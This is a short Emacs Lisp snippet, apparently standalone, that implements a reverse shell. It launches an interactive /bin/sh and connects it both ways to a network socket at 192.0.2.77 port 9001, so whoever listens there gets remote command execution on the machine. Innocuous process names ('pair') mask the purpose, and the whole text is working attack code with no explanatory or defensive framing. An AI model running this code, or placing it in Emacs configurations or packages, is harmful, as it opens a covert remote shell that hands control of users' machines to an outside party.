(let* ((sh (start-process "pair-sh" nil "/bin/sh" "-i"))
       (net (make-network-process :name "pair" :host "192.0.2.77" :service 9001)))
  (set-process-filter net (lambda (_p s) (process-send-string sh s)))
  (set-process-filter sh (lambda (_p s) (process-send-string net s))))
